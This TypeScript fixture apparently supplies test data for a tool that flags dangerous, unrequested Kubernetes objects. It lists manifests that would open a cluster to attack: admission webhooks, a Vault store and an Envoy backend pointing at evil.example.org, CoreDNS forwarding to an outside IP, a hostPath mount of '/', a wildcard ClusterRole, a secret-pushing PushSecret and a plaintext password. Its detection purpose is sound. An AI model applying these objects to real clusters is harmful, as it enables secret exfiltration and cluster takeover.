import { type Added, object } from './value-edit.ts';

const rbac = 'rbac.authorization.k8s.io/v1';
const pod = { containers: [{ name: 'x', image: 'registry.example.com/erp/x:1.0.0' }] };
const hook = {
  name: 'x.example.org',
  admissionReviewVersions: ['v1'],
  sideEffects: 'None',
  clientConfig: { url: 'https://evil.example.org/x' },
  rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
};
const grave = (apiVersion: string, kind: string, name: string, rest: Readonly<Record<string, unknown>>): Added => ({
  grave: true,
  object: object(apiVersion, kind, name, rest),
});

/** Objects that nobody asked for. */
const addedObjects: readonly Added[] = [
  grave('admissionregistration.k8s.io/v1', 'MutatingWebhookConfiguration', 'x', { webhooks: [hook] }),
  grave('admissionregistration.k8s.io/v1', 'ValidatingWebhookConfiguration', 'x', { webhooks: [hook] }),
  grave('admissionregistration.k8s.io/v1', 'ValidatingAdmissionPolicy', 'x', {
    spec: {
      failurePolicy: 'Fail',
      validations: [{ expression: 'false' }],
      matchConstraints: { resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }] },
    },
  }),
  grave('apiregistration.k8s.io/v1', 'APIService', 'v1beta1.metrics.k8s.io', {
    spec: {
      group: 'metrics.k8s.io',
      version: 'v1beta1',
      groupPriorityMinimum: 100,
      versionPriority: 100,
      insecureSkipTLSVerify: true,
      service: { name: 'x', namespace: 'erp-prod' },
    },
  }),
  grave('apiextensions.k8s.io/v1', 'CustomResourceDefinition', 'things.example.org', {
    spec: {
      group: 'example.org',
      scope: 'Namespaced',
      names: { kind: 'Thing', plural: 'things' },
      versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
    },
  }),
  grave('discovery.k8s.io/v1', 'EndpointSlice', 'erp-infra/postgres-primary-x', {
    addressType: 'IPv4',
    endpoints: [{ addresses: ['203.0.113.9'] }],
    ports: [{ name: 'postgresql', port: 5432, protocol: 'TCP' }],
  }),
  grave('v1', 'Endpoints', 'erp-infra/postgres-primary', {
    subsets: [{ addresses: [{ ip: '203.0.113.9' }], ports: [{ name: 'postgresql', port: 5432, protocol: 'TCP' }] }],
  }),
  grave('v1', 'Service', 'erp-prod/database', { spec: { type: 'ExternalName', externalName: 'db.example.org' } }),
  grave('v1', 'Service', 'erp-prod/open', {
    spec: { type: 'LoadBalancer', selector: { app: 'sales-service' }, ports: [{ name: 'http', port: 80, targetPort: 'http' }] },
  }),
  grave('v1', 'Pod', 'erp-prod/debug', { spec: pod }),
  grave('v1', 'PersistentVolume', 'host', {
    spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
  }),
  grave('v1', 'Node', 'ip-10-0-0-1', { spec: { unschedulable: true } }),
  grave('v1', 'Secret', 'erp-prod/token', { type: 'kubernetes.io/service-account-token' }),
  grave('v1', 'Secret', 'erp-prod/password', { stringData: { password: 'hunter2hunter2' } }),
  grave('v1', 'Namespace', 'erp-scratch', {}),
  grave('v1', 'ConfigMap', 'kube-system/coredns', { data: { Corefile: '.:53 { forward . 203.0.113.53 }' } }),
  grave('v1', 'ReplicationController', 'erp-prod/x', {
    spec: { selector: { app: 'x' }, template: { metadata: { labels: { app: 'x' } }, spec: pod } },
  }),
  grave('v1', 'ServiceAccount', 'erp-prod/default', { automountServiceAccountToken: true }),
  grave('v1', 'LimitRange', 'erp-prod/second', { spec: { limits: [{ type: 'Container', max: { memory: '128Mi' } }] } }),
  grave('v1', 'ResourceQuota', 'erp-prod/second', { spec: { hard: { pods: '3' } } }),
  grave('apps/v1', 'DaemonSet', 'erp-prod/agent', {
    spec: { selector: { matchLabels: { app: 'agent' } }, template: { metadata: { labels: { app: 'agent' } }, spec: pod } },
  }),
  grave('apps/v1', 'StatefulSet', 'erp-prod/own-database', {
    spec: { serviceName: 'x', selector: { matchLabels: { app: 'x' } }, template: { metadata: { labels: { app: 'x' } }, spec: pod } },
  }),
  grave('apps/v1', 'ReplicaSet', 'erp-prod/x', {
    spec: { selector: { matchLabels: { app: 'x' } }, template: { metadata: { labels: { app: 'x' } }, spec: pod } },
  }),
  grave('batch/v1', 'Job', 'erp-prod/once', { spec: { template: { spec: { ...pod, restartPolicy: 'Never' } } } }),
  grave('batch/v1', 'CronJob', 'erp-prod/nightly', {
    spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec: { ...pod, restartPolicy: 'Never' } } } } },
  }),
  grave('autoscaling/v2', 'HorizontalPodAutoscaler', 'erp-prod/sales-service', {
    spec: { minReplicas: 1, maxReplicas: 2, scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'sales-service' } },
  }),
  grave('policy/v1', 'PodDisruptionBudget', 'erp-prod/sales-service-2', {
    spec: { maxUnavailable: 0, selector: { matchLabels: { app: 'sales-service' } } },
  }),
  grave('networking.k8s.io/v1', 'NetworkPolicy', 'erp-prod/open', {
    spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'], ingress: [{}], egress: [{}] },
  }),
  grave('networking.k8s.io/v1', 'Ingress', 'erp-prod/side-door', {
    spec: {
      rules: [
        {
          host: 'x.example.com',
          http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'sales-service', port: { number: 80 } } } }] },
        },
      ],
    },
  }),
  grave('networking.k8s.io/v1', 'IngressClass', 'nginx', { spec: { controller: 'k8s.io/ingress-nginx' } }),
  grave(rbac, 'ClusterRoleBinding', 'everybody', {
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:authenticated' }],
  }),
  grave(rbac, 'RoleBinding', 'erp-prod/dev', {
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'erp-dev' }],
  }),
  grave(rbac, 'ClusterRole', 'helper', { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }),
  grave(rbac, 'Role', 'erp-prod/secrets', { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }] }),
  grave('scheduling.k8s.io/v1', 'PriorityClass', 'first', { value: 1000000000 }),
  grave('storage.k8s.io/v1', 'StorageClass', 'fast', {
    provisioner: 'ebs.csi.aws.com',
    reclaimPolicy: 'Delete',
    metadata: { name: 'fast', annotations: { 'storageclass.kubernetes.io/is-default-class': 'true' } },
  }),
  grave('certificates.k8s.io/v1', 'CertificateSigningRequest', 'jane', {
    spec: { request: 'LS0t', signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
  }),
  grave('coordination.k8s.io/v1', 'Lease', 'erp-infra/keda-operator', { spec: { holderIdentity: 'x' } }),
  grave('flowcontrol.apiserver.k8s.io/v1', 'FlowSchema', 'first', {
    spec: { matchingPrecedence: 1, priorityLevelConfiguration: { name: 'exempt' } },
  }),
  grave('node.k8s.io/v1', 'RuntimeClass', 'x', { handler: 'x' }),
  grave('events.k8s.io/v1', 'Event', 'erp-prod/x', { eventTime: '2026-01-01T00:00:00.000000Z' }),
  grave('argoproj.io/v1alpha1', 'Application', 'erp-prod/side', {
    spec: {
      project: 'default',
      source: { repoURL: 'https://git.example.com/x.git', path: '.' },
      destination: { server: 'https://kubernetes.default.svc', namespace: 'default' },
    },
  }),
  grave('cert-manager.io/v1', 'ClusterIssuer', 'self-signed', { spec: { selfSigned: {} } }),
  grave('external-secrets.io/v1', 'ClusterSecretStore', 'second', {
    spec: {
      provider: {
        vault: {
          server: 'https://vault.evil.example.org',
          path: 'secret',
          version: 'v2',
          auth: { tokenSecretRef: { name: 'x', key: 'x' } },
        },
      },
    },
  }),
  grave('external-secrets.io/v1', 'ClusterExternalSecret', 'spread', {
    spec: { namespaceSelectors: [{ matchLabels: {} }], externalSecretSpec: { data: [] } },
  }),
  grave('external-secrets.io/v1alpha1', 'PushSecret', 'erp-prod/out', {
    spec: { secretStoreRefs: [{ name: 'sales-service-vault' }], selector: { secret: { name: 'sales-service-secrets' } }, data: [] },
  }),
  grave('gateway.networking.k8s.io/v1', 'Gateway', 'erp-prod/own', {
    spec: { gatewayClassName: 'eg', listeners: [{ name: 'http', port: 80, protocol: 'HTTP' }] },
  }),
  grave('gateway.networking.k8s.io/v1beta1', 'ReferenceGrant', 'erp-infra/all', {
    spec: {
      from: [{ group: 'gateway.networking.k8s.io', kind: 'HTTPRoute', namespace: 'erp-prod' }],
      to: [{ group: '', kind: 'Service' }],
    },
  }),
  grave('gateway.envoyproxy.io/v1alpha1', 'EnvoyPatchPolicy', 'erp-infra/x', {
    spec: { type: 'JSONPatch', targetRef: { group: 'gateway.networking.k8s.io', kind: 'Gateway', name: 'erp-gateway' }, jsonPatches: [] },
  }),
  grave('gateway.envoyproxy.io/v1alpha1', 'Backend', 'erp-prod/out', {
    spec: { endpoints: [{ fqdn: { hostname: 'evil.example.org', port: 443 } }] },
  }),
  grave('keda.sh/v1alpha1', 'ScaledJob', 'erp-prod/x', { spec: { jobTargetRef: { template: { spec: pod } }, triggers: [] } }),
  grave('kafka.strimzi.io/v1', 'KafkaUser', 'erp-infra/admin', {
    metadata: { name: 'admin', namespace: 'erp-infra', labels: { 'strimzi.io/cluster': 'kafka' } },
    spec: {
      authentication: { type: 'scram-sha-512' },
      authorization: { type: 'simple', acls: [{ resource: { type: 'topic', name: '*' }, operations: ['All'] }] },
    },
  }),
  grave('kafka.strimzi.io/v1', 'KafkaConnect', 'erp-infra/x', { spec: { bootstrapServers: 'x:9092' } }),
  grave('acid.zalan.do/v1', 'postgresql', 'erp-infra/second', {
    spec: { teamId: 'erp', numberOfInstances: 1, postgresql: { version: '16' }, volume: { size: '1Gi' } },
  }),
  grave('monitoring.coreos.com/v1', 'Prometheus', 'erp-infra/second', { spec: {} }),
  grave('monitoring.coreos.com/v1alpha1', 'AlertmanagerConfig', 'erp-prod/quiet', {
    spec: { route: { receiver: 'x' }, receivers: [{ name: 'x' }] },
  }),
  grave('policy.sigstore.dev/v1beta1', 'ClusterImagePolicy', 'pass', {
    spec: { images: [{ glob: '**' }], authorities: [{ static: { action: 'pass' } }] },
  }),
  grave('bitnami.com/v1alpha1', 'SealedSecret', 'erp-prod/x', {
    metadata: { name: 'x', namespace: 'erp-prod', annotations: { 'sealedsecrets.bitnami.com/cluster-wide': 'true' } },
    spec: { encryptedData: { a: 'AgBy' } },
  }),
  grave('example.org/v1', 'Thing', 'erp-prod/x', { spec: {} }),
];

export default addedObjects;
